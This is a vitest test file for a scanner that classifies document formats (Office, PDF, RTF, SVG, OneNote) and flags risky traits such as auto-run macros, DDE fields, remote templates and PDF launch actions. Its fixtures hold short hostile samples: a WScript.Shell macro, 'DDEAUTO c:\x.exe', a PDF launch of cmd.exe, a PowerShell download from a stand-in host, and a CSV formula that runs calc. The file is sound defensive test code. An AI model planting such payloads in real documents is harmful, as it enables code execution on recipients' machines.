// What the core sees in documents: macros, actions, links out of them, files inside them. Every document is built here.
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { factOf, traitsOf } from './attachment-rig.ts';
import {
	boundSheet,
	compound,
	MACRO_STORAGES,
	macroDocument,
	officeDocument,
	oneNote,
	pdf,
	relationship,
	vbaModule,
} from './files/documents.ts';
import { join, latin1, PROGRAM, padded, u16 } from './files/octets.ts';
import { zip } from './files/zip.ts';

const LONG = "' A comment that says nothing much, so that the module is a long one.\r\n".repeat(80);

describe('a compound file', () => {
	it('is an old document, a mail of Outlook, or an installer', () => {
		expect(factOf(compound([{ name: 'WordDocument' }]))).toEqual({ part: 0, kind: 'ole2' });
		expect(factOf(compound([{ name: '__properties_version1.0' }])).kind).toBe('msg');
	});

	it.each(MACRO_STORAGES)('has macros where it has $name', (item) => {
		expect(traitsOf(compound([item]))).toEqual(['macro']);
	});

	it('has none where a stream is called like that storage, or a text says so', () => {
		expect(traitsOf(compound([{ name: 'VBA' }, { name: 'Text', data: latin1('_VBA_PROJECT Macros VBA') }]))).toEqual(
			[],
		);
	});

	it.each(['AutoOpen', 'Document_Open', 'auto_open', 'Workbook_Open'])('runs %s by itself', (name) => {
		expect(traitsOf(macroDocument(`${LONG}Sub ${name}()\r\nEnd Sub`))).toEqual(['macro', 'auto-run']);
	});

	it('starts programs from the text of its modules, repeats undone', () => {
		const source = `${LONG}Sub Calculate()\r\nx = CreateObject("WScript.Shell")\r\nEnd Sub`;
		expect(traitsOf(macroDocument(source))).toEqual(['macro', 'macro-commands']);
		expect(traitsOf(macroDocument(`${LONG}Sub Calculate()\r\nEnd Sub`))).toEqual(['macro']);
	});

	it('shows a module without its storages', () => {
		expect(traitsOf(compound([{ name: 'x', data: vbaModule('Sub AutoOpen()') }]))).toEqual(['macro', 'auto-run']);
	});

	it('has Excel 4.0 macros by the kind of a sheet', () => {
		const book = (kind: number) => compound([{ name: 'Workbook', data: padded(boundSheet(kind), 4096) }]);
		expect(traitsOf(book(1))).toEqual(['xlm-macro']);
		expect(traitsOf(book(0))).toEqual([]);
	});

	it.each([
		['encrypted', 'EncryptedPackage'],
		['packaged-file', '\x01Ole10Native'],
		['equation', 'Equation Native'],
	])('is %s where it has %s', (trait, name) => {
		expect(traitsOf(compound([{ name }]))).toEqual([trait]);
	});

	it('has objects where it has their storages', () => {
		expect(traitsOf(compound([{ name: 'MBD0001A2B3', storage: true }]))).toEqual(['embedded-object']);
		expect(traitsOf(compound([{ name: '_1234567890', storage: true }]))).toEqual(['embedded-object']);
	});

	it('says that Word or Excel has locked it', () => {
		const word = padded(join(u16(0xa5ec), u16(0xc1), Buffer.alloc(6), u16(0x0100)), 512);
		expect(traitsOf(compound([{ name: 'WordDocument', data: word }]))).toEqual(['encrypted']);
		const book = padded(
			join(latin1('\x09\x08\x10\x00\x00\x06\x05\x00'), Buffer.alloc(12), latin1('\x2f\x00\x36\x00')),
			512,
		);
		expect(traitsOf(compound([{ name: 'Workbook', data: book }]))).toEqual(['encrypted']);
	});
});

describe('an office document of today', () => {
	it('is known by its parts', () => {
		expect(factOf(officeDocument([]))).toMatchObject({ kind: 'ooxml', entryCount: 3 });
		expect(traitsOf(officeDocument([]))).toEqual([]);
	});

	it('has macros in a part of that name, and under any other name', () => {
		const project = macroDocument('Sub AutoOpen()\r\nCreateObject("WScript.Shell")');
		const traits = ['macro', 'auto-run', 'macro-commands'];
		expect(traitsOf(officeDocument([{ name: 'word/vbaProject.bin', data: project }]))).toEqual(traits);
		expect(traitsOf(officeDocument([{ name: 'word/picture.bin', data: project }]))).toEqual(traits);
	});

	it.each([
		['xlm-macro', 'xl/macrosheets/sheet1.xml'],
		['activex', 'word/activeX/activeX1.xml'],
		['embedded-object', 'word/embeddings/oleObject1.bin'],
	])('has %s where it has %s', (trait, name) => {
		expect(traitsOf(officeDocument([{ name, data: 'x' }]))).toEqual([trait]);
	});

	it.each(['https://evil.example/a.dotm', '\\\\evil.example\\a.dotm', 'mhtml:https://evil.example/a'])(
		'fetches its template from %s',
		(target) => {
			expect(traitsOf(officeDocument([relationship('attachedTemplate', target)]))).toEqual(['external-template']);
			expect(traitsOf(officeDocument([relationship('oleObject', target)]))).toEqual(['external-object']);
		},
	);

	it('does not where the template is its own, or what is elsewhere is a link', () => {
		expect(traitsOf(officeDocument([relationship('attachedTemplate', 'Normal.dotm')]))).toEqual([]);
		expect(traitsOf(officeDocument([relationship('attachedTemplate', 'https://x.example/a', 'Internal')]))).toEqual([]);
		expect(traitsOf(officeDocument([relationship('hyperlink', 'https://x.example/')]))).toEqual([]);
		const both = relationship('attachedTemplate', 'Normal.dotm');
		const link = relationship('hyperlink', 'https://x.example/');
		expect(traitsOf(officeDocument([{ ...both, data: `${both.data}${link.data}` }]))).toEqual([]);
	});

	it('starts a program through a field', () => {
		const field = '<?xml version="1.0"?><w:p><w:instrText>DDEAUTO c:\\\\x.exe</w:instrText></w:p>';
		expect(traitsOf(officeDocument([{ name: 'word/footer1.xml', data: field }]))).toEqual(['dde']);
	});

	it('of the OpenDocument kind has its macros in Basic', () => {
		const parts = [
			{ name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
			{ name: 'content.xml', data: '<?xml version="1.0"?><office:document-content/>' },
		];
		expect(factOf(zip(parts))).toMatchObject({ kind: 'odf' });
		expect(traitsOf(zip([...parts, { name: 'Basic/Standard/Module1.xml', data: 'x' }]))).toEqual(['macro']);
	});
});

describe('a PDF', () => {
	it('without any of it is nothing', () => {
		expect(factOf(pdf(['<< /Type /Catalog /Pages 2 0 R >>']))).toEqual({ part: 0, kind: 'pdf' });
	});

	it.each([
		['pdf-javascript', '<< /S /JavaScript /JS (app.alert(1)) >>'],
		['pdf-javascript', '<< /S /J#61vaScr#69pt /JS (x) >>'],
		['pdf-launch', '<< /S/Launch/F(cmd.exe)>>'],
		['pdf-open-action', '<< /OpenAction 5 0 R >>'],
		['pdf-auto-action', '<< /AA << /O 5 0 R >> >>'],
		['pdf-auto-action', '<< /AA\n5 0 R >>'],
		['embedded-file', '<< /Type /EmbeddedFile >>'],
		['embedded-file', '<< /Names << /EmbeddedFiles 9 0 R >> >>'],
		['pdf-submit-form', '<< /S /SubmitForm >>'],
		['pdf-link', '<< /S /URI /URI (https://x.example/) >>'],
	])('has %s by %s, in the open and in an object stream', (trait, object) => {
		expect(traitsOf(pdf([object]))).toEqual([trait]);
		expect(traitsOf(pdf(['<< >>'], ['<< /Type /Page >>', object]))).toEqual([trait]);
	});

	it.each(['(/JavaScrip)', '<< /JavaScripts 1 >>', '<< /AA (x) >>', '<< /Launched true >>', '/#zz/J#61vaScr'])(
		'%s is nothing',
		(object) => {
			expect(traitsOf(pdf([object]))).toEqual([]);
		},
	);

	it('says that it is locked', () => {
		expect(traitsOf(pdf(['<< >>'], [], '/Encrypt 7 0 R '))).toEqual(['pdf-encrypted']);
	});

	it('shows a name that is the last thing in an object stream, and one behind it', () => {
		expect(traitsOf(pdf([], ['<< /S /Launch']))).toEqual(['pdf-launch']);
		expect(traitsOf(pdf([], ['<< >>'], '/Encrypt 7 0 R'))).toEqual(['pdf-encrypted']);
	});

	it('opens no stream but those of objects', () => {
		const data = deflateSync(latin1('/Launch '));
		const object = join(latin1('%PDF-1.4\n<< /Filter /FlateDecode >>\nstream\n'), data, latin1('\nendstream'));
		expect(traitsOf(object)).toEqual([]);
	});
});

describe('a file of text', () => {
	it.each([
		['embedded-object', '{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'],
		['rtf-auto-update', '{\\rtf1{\\object\\objautlink\\objupdate}}'],
		['equation', '{\\rt{\\*\\objclass Equation.3}}'],
		['external-template', '{\\rtf1{\\*\\template http://evil.example/a.dotm}}'],
	])('has %s as RTF', (trait, text) => {
		expect(factOf(latin1(text))).toMatchObject({ kind: 'rtf', traits: [trait] });
	});

	it('as RTF without objects has nothing', () => {
		expect(factOf(latin1('{\\rtf1 Hello {\\b all}.{\\*\\template C:\\\\Normal.dotm}}'))).toEqual({
			part: 0,
			kind: 'rtf',
		});
	});

	it.each([
		['svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch(1)</script></svg>', ['script']],
		['svg', '<?xml version="1.0"?>\n<!-- drawn -->\n<svg onload="x()"/>', ['script']],
		['svg', '<?xml version="1.0"?><svg><path d="M0 0"/></svg>', undefined],
		['hta', '<html><head><HTA:APPLICATION id="a"></head></html>', undefined],
		['html', '<html><script>1</script></html>', undefined],
		['xml', '<?xml version="1.0"?><rss/>', undefined],
		['windows-script', 'var s = new ActiveXObject("WScript.Shell"); s.Run("calc")', undefined],
		['windows-script', 'On Error Resume Next\r\nSet x = CreateObject("ADODB.Stream")', undefined],
		['text', 'The call CreateObject( is slow, says the manual.', undefined],
		['powershell', '$d = (New-Object Net.WebClient).DownloadString("http://x.example")', undefined],
		['text', 'name,total\n"a",=cmd|\' /C calc\'!A0', ['dde']],
		['ics', 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\n', undefined],
		['eml', 'Received: from a.example by b.example\r\nSubject: Hello\r\n\r\nHi', undefined],
		['registry', 'Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\x]', undefined],
		['internet-shortcut', '[InternetShortcut]\r\nURL=file://evil.example/a.exe', undefined],
		['remote-desktop', 'full address:s:evil.example\r\n', undefined],
		['tnef', '\x78\x9f\x3e\x22\x00', undefined],
		['chm', 'ITSF\x03\x00\x00\x00', undefined],
		['ace', '\x00\x00\x31\x00\x00\x00\x90**ACE**', undefined],
		['bzip2', 'BZh91AY&SY', undefined],
		['xz', '\xfd7zXZ\x00', undefined],
		['zstd', '\x28\xb5\x2f\xfd', undefined],
	])('is %s: %j', (kind, text, traits) => {
		const fact = factOf(latin1(text));
		expect([fact.kind, fact.traits]).toEqual([kind, traits]);
	});
});

it('a OneNote page shows the files inside it', () => {
	expect(factOf(oneNote([PROGRAM, latin1('x')]))).toMatchObject({
		kind: 'onenote',
		traits: ['embedded-file'],
		entryCount: 2,
		entries: [{ name: '', kind: 'windows-executable', bytes: PROGRAM.length }],
	});
	expect(traitsOf(oneNote([]))).toEqual([]);
});
